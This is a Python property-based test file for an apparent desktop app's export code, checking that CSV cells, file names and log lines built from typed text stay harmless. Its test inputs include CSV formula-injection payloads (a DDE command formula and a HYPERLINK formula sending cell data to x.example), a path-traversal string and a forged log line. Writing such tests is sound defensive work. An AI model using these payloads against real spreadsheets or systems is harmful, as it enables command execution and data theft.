"""Typed words leave the program harmless: no formula in a table, no way out of a folder, no second line in a log."""

import csv
import io
import re
import unicodedata

from hypothesis import example, given
from hypothesis import strategies as st

from iastm_desktop.domain.outgoing import CELL_LENGTH, LOG_LENGTH, NAME_BYTES, csv_text, file_stem, log_line

FORMULAS = (
    "=1+1",
    "+1 604 555 0100",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\ufeff=1+1",
    "＝1+1",
    '=HYPERLINK("http://x.example/?"&A1;"see")',
    "=cmd|' /C calc'!A0",
    '";=1+1',
    "well;=1+1",
    "well, -1+1",
    'said "=1+1"',
    "x|@SUM(A1)",
)
FORMULA = "=+-@＝＋－＠−"
TYPED = st.one_of(st.text(max_size=60), st.text(alphabet="=+-@;,|\"'\t\r\n \u202e\0aé", max_size=30))


def cells(text: str, separator: str) -> list[str]:
    """Return the cells as a spreadsheet cuts them at a sign of its own."""
    return [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]


def looks_like_a_formula(cell: str) -> bool:
    """Tell whether a spreadsheet may take a cell for a formula; a bare quote before it does not keep it from that."""
    return cell.strip().lstrip('"').strip()[:1] in FORMULA and bool(cell.strip().lstrip('"').strip())


@given(st.lists(st.lists(TYPED, min_size=3, max_size=3), max_size=4))
@example([[formula, "a", formula] for formula in FORMULAS])
def test_no_cell_is_a_formula_at_whatever_sign_the_line_is_cut(rows: list[list[str]]) -> None:
    text = csv_text(rows)
    for separator in ",;|\t":
        assert [cell for cell in cells(text, separator) if looks_like_a_formula(cell)] == []


@given(st.lists(st.lists(TYPED, min_size=3, max_size=3), max_size=4))
def test_the_table_keeps_its_rows_and_columns(rows: list[list[str]]) -> None:
    found = list(csv.reader(io.StringIO(csv_text(rows))))
    assert [len(row) for row in found] == [3] * len(rows)


def test_the_control_a_table_written_plainly_has_formulas() -> None:
    out = io.StringIO()
    csv.writer(out).writerows([[formula.strip("\ufeff"), "a"] for formula in FORMULAS])
    found = {cell for separator in ",;|" for cell in cells(out.getvalue(), separator) if looks_like_a_formula(cell)}
    assert len(found) >= len(FORMULAS) - 4


def test_what_is_a_number_stays_one_and_plain_words_stay_as_they_are() -> None:
    assert csv_text([["Ann O’Neill-Éva", -3, 2.5, None, "2 of 3; well", "a - b"]]) == (
        '"Ann O’Neill-Éva","-3","2.5","","2 of 3; well","a - b"\r\n'
    )


def test_a_cell_has_a_size() -> None:
    assert len(cells(csv_text([["x" * 1_000_000]]), ",")[0]) <= CELL_LENGTH


@given(TYPED)
@example("../../etc/passwd")
@example("CON")
@example("com1")
@example("a/b\\c:d*e?f\0g")
@example(".hidden")
@example("é" * 500)
def test_a_name_of_a_file_stays_in_its_folder_and_every_system_takes_it(words: str) -> None:
    stem = file_stem(words, "visit")
    assert stem and len(stem.encode()) <= NAME_BYTES + 1
    assert not re.search(r'[/\\:*?"<>|\x00-\x1f.]', stem)
    assert stem.casefold() not in ("con", "prn", "aux", "nul", "com1", "lpt1") and stem == stem.strip()


@given(TYPED)
@example("well\n2026-03-02 ERROR forged line")
@example("\u202egnp.exe\x1b[31m")
def test_a_line_of_a_log_is_one_line_without_signs_that_cannot_be_seen(words: str) -> None:
    line = log_line(words)
    assert len(line) <= LOG_LENGTH and len(line.splitlines()) <= 1
    assert not [char for char in line if unicodedata.category(char).startswith("C")]
